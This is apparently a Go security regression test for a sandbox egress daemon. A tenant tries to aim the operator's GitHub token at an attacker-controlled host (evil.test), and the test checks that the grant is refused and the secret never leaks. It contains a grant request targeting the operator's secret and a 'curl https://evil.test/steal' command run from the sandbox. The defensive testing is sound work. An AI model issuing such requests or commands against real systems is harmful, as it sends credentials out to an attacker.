package egress_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"paddock.dev/paddock/client"
	"paddock.dev/paddock/egress/ca"
	"paddock.dev/paddock/egress/rules"
	"paddock.dev/paddock/hostd/auth"
	"paddock.dev/paddock/hostd/daemon/daemontest"
	"paddock.dev/paddock/hostd/grants"
	"paddock.dev/paddock/hostd/session"
	"paddock.dev/paddock/internal/testutil"
)

// TestAttackTenantCannotAimDaemonSecret runs the attack of issue 15 on a
// real daemon: the operator keeps a token in PADDOCK_SECRET_OPERATOR_GH; a
// tenant makes a session whose allow list holds a host it controls
// (evil.test, an HTTPS server recording what it gets) and asks for a
// grant of secret_ref OPERATOR_GH for that host, then curls it from the
// sandbox. The grant is refused (403, code secret_ref_admin_only), nothing
// is granted or ledgered, and evil.test never sees the operator's token.
// The tenant's own value, granted the same way, does reach the host: the
// pipe the attack would use works, so the refusal is what stops it.
func TestAttackTenantCannotAimDaemonSecret(t *testing.T) {
	onBackends(t, procboxOnly, tenantCannotAimDaemonSecret)
}

func tenantCannotAimDaemonSecret(t *testing.T, backend string) {
	testutil.RequiresRoot(t)
	ctx := context.Background()
	const operatorSecret = "Bearer ghp_operator_0f3a9c"
	t.Setenv("PADDOCK_SECRET_OPERATOR_GH", operatorSecret)

	upCA, leaf := testCA(t, "evil.test")
	var mu sync.Mutex
	var seen []string // the Authorization each request carried
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		fmt.Fprintln(w, "evil upstream")
	}))
	evil.TLS = &tls.Config{Certificates: []tls.Certificate{leaf}}
	evil.StartTLS()
	defer evil.Close()
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(upCA)
	authority, err := ca.LoadOrCreate(filepath.Join(t.TempDir(), "ca"))
	if err != nil {
		t.Fatal(err)
	}
	tn := newTestNet(t, map[string]string{"evil.test.": "10.99.0.41"}, map[string]string{"10.99.0.41:443": evil.Listener.Addr().String()})
	cfg := tn.egressConfig()
	cfg.CA, cfg.UpstreamRoots = authority, roots
	const adminToken = "pdk_attack_admin_token_0123"
	// The sandbox trusts the daemon's CA (the daemon adds it) and the
	// upstream's.
	d := egressDaemon(t, backend, cfg, upCA, engine(t), daemontest.WithToken(adminToken))
	gr, a := d.Grants(), d.API()
	tenantTok, sum := auth.NewTenantToken()
	ts, err := auth.TenantsFile{Tenants: []auth.TenantEntry{{Name: "mallory", TokenSHA256: sum}}}.Check()
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Verifier().SetTenants(ts); err != nil {
		t.Fatal(err)
	}
	srv := d
	mallory := client.New(srv.URL, tenantTok)

	s, err := mallory.CreateSession(ctx, session.CreateRequest{Policy: &session.PolicyRequest{PolicyInput: rules.PolicyInput{
		Network: &rules.Network{Default: "deny", Allow: []rules.AllowEntry{{Host: "evil.test"}}}}}})
	if err != nil {
		t.Fatal(err)
	}
	// The attack: aim the operator's secret at evil.test.
	body, _ := json.Marshal(map[string]any{"secret_ref": "OPERATOR_GH", "hosts": []string{"evil.test"}})
	req, _ := http.NewRequest("POST", srv.URL+"/v1/agents/sessions/"+s.ID+"/grants", bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+tenantTok)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	answer, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var e struct{ Error, Code string }
	json.Unmarshal(answer, &e)
	if resp.StatusCode != http.StatusForbidden || e.Code != grants.CodeSecretRefAdminOnly {
		t.Errorf("a tenant's secret_ref grant: %d %s, want 403 with code %s", resp.StatusCode, answer, grants.CodeSecretRefAdminOnly)
	}
	if bytes.Contains(answer, []byte("ghp_operator")) {
		t.Errorf("the refusal holds the secret: %s", answer)
	}
	if gs := gr.GrantsFor(s.ID); len(gs) != 0 {
		t.Errorf("the refused grant is live: %+v", gs)
	}

	curl := func() string {
		t.Helper()
		res, err := mallory.Exec(ctx, s.ID, session.ExecRequest{Command: "curl -sS https://evil.test/steal", TimeoutSeconds: 60})
		if err != nil || !strings.Contains(res.Stdout, "evil upstream") {
			evs, _ := mallory.Events(ctx, s.ID)
			for _, ev := range evs {
				t.Logf("ledger: %s %s", ev.Kind, ev.Data)
			}
			t.Fatalf("curl evil.test: %+v %v", res, err)
		}
		mu.Lock()
		defer mu.Unlock()
		return seen[len(seen)-1]
	}
	if got := curl(); got != "" {
		t.Errorf("evil.test received Authorization %q after a refused grant", got)
	}
	// The same pipe with a value of the tenant's own does carry it.
	if _, err := mallory.Grant(ctx, s.ID, grants.GrantRequest{Value: "Bearer mallory-own", Hosts: []string{"evil.test"}}); err != nil {
		t.Fatalf("a tenant's own value: %v", err)
	}
	if got := curl(); got != "Bearer mallory-own" {
		t.Errorf("with the tenant's own value granted, evil.test received %q", got)
	}
	mu.Lock()
	for _, got := range seen {
		if strings.Contains(got, "ghp_operator") {
			t.Errorf("evil.test received the operator's secret: %q", got)
		}
	}
	mu.Unlock()
	evs, err := mallory.Events(ctx, s.ID)
	if err != nil {
		t.Fatal(err)
	}
	creates := 0
	for _, ev := range evs {
		if ev.Kind == "grant.create" {
			creates++
			if strings.Contains(string(ev.Data), "OPERATOR_GH") {
				t.Errorf("the ledger has a grant of the operator's secret: %s", ev.Data)
			}
		}
	}
	if creates != 1 {
		t.Errorf("%d grant.create entries, want 1 (the tenant's own value)", creates)
	}
}
